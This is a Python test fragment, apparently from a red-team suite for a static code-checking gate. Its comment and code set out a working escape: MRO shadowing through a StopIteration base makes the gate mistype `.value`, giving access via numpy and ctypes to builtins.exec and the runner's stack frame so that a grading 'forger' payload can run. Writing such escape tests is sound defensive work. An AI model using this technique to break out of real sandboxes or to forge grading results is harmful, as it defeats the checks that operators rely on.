# ruff: noqa: F821  (a part: the test puts the stub and `_FORGE = "..."` before it)
# rt16 (hostile, escape): a nested class the gate types by name, which a listed base's native attribute shadows
# at run time. `_B(StopIteration, _A)` puts StopIteration before `_A` in the MRO, so `_B(x).value` is
# StopIteration's slot -- `x`, any object -- not the class `_A.value`. But classes.py `nested_class` types
# `<instance of the family>.value` as the nested class whenever no class body or trusted store of the family
# rebinds `value`: it never asks whether a listed base of the family has `value` natively. So an array is
# typed as the own class `value`, on which the names its body binds (nested classes, `exec = None`) may be
# read: numpy -> ctypes -> sys -> a frame and builtins.exec, and the forger of test_gate_grading.py runs with
# the runner's frame (the chain of rt14, by another road).
import numpy as np


class _A:
    class value:
        class ctypes:
            class _ctypes:
                class _sys:
                    _getframe = None
                    modules = None

        exec = None


class _B(StopIteration, _A):  # `value` is StopIteration's slot, first in the MRO  # hole
    pass


_B(_B(np.zeros(1)).value.ctypes._ctypes._sys.modules["builtins"]).value.exec(
    _FORGE, {"_frame": _B(np.zeros(1)).value.ctypes._ctypes._sys._getframe()})
